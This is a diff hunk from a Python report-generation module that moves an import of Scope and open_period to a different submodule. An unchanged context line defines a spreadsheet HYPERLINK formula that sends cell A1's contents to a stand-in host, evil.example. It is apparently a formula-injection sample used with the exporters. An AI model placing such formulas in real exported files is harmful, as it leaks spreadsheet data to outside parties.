@@ -19,8 +19,8 @@ from reportgen.exporters import csv_exporter
 from reportgen.exporters import pdf as pdf_exporter
 from reportgen.exporters import xlsx as xlsx_exporter
 from reportgen.hookspecs import ExportContext, Exporter
+from reportgen.read import Scope, open_period
 from reportgen.templating import load_template
-from reportgen.views import Scope, open_period
 
 TZ = ZoneInfo("Asia/Shanghai")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
